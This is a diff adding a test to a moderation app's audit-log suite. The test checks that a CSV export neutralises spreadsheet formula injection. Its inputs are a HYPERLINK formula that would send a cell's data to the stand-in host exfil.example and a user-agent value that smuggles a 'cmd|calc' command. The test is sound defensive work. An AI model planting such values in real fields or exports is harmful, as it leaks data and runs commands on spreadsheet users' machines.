@@ -336,6 +336,29 @@ describe('the gate', () => {
     expect(quoted.statusCode).toBe(200);
     expect(quoted.body.trim().split('\n')).toHaveLength(1);
   });
+
+  it('exports a justification or user agent that looks like a formula as text, never as a formula the DPO’s spreadsheet runs', async () => {
+    const { caseId, reportId } = await myCase();
+    // What a curious moderator could type, and send as their browser's user agent.
+    const formula = '=HYPERLINK("https://exfil.example/?"&A1,"Voir le détail")';
+    const granted = await t.app.inject({
+      method: 'POST',
+      url: `/api/v1/cases/${caseId}/access`,
+      headers: { ...moderator.headers(true), 'user-agent': '@SUM(1+1)*cmd|calc' },
+      payload: { justification: formula, reportIds: [reportId] },
+    });
+    expect(granted.statusCode).toBe(201);
+    const csv = await t.app.inject({ method: 'GET', url: `/api/v1/audit/access-log/export?caseId=${caseId}`, headers: dpo.headers() });
+    expect(csv.statusCode).toBe(200);
+    const row = csv.body.trim().split('\n')[1];
+    // Every cell is quoted: a cell starting with = + - @ (or a tab or return) is prefixed with a quote.
+    expect(row).toContain(`"'${formula.replace(/"/g, '""')}"`);
+    expect(row).toContain(`"'@SUM(1+1)*cmd|calc"`);
+    expect(row).not.toMatch(/(^|,)"[=+\-@]/);
+    // The register itself keeps what was typed: only the export defuses it.
+    const listed = await t.app.inject({ method: 'GET', url: `/api/v1/audit/access-log?caseId=${caseId}`, headers: dpo.headers() });
+    expect((listed.json() as { data: AccessLogEntry[] }).data[0].justification).toBe(formula);
+  });
 });
 
 function sourceFiles(dir: string): string[] {
